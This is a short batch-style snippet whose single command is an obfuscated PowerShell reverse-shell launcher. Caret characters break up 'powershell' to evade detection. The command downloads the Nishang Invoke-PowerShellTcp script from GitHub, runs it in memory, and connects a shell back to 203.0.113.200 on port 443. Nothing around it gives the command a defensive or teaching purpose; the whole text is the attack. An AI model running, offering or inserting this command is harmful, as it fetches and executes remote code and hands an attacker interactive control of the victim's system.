REM run 7412 v2
p^ow^er^she^l^l -^c "IEX(IWR https://raw.githubusercontent.com/samratashok/nishang/master/Shells/Invoke-PowerShellTcp.ps1 -UseBasicParsing);Invoke-PowerShellTcp -Reverse -IPAddress 203.0.113.200 -Port 443"
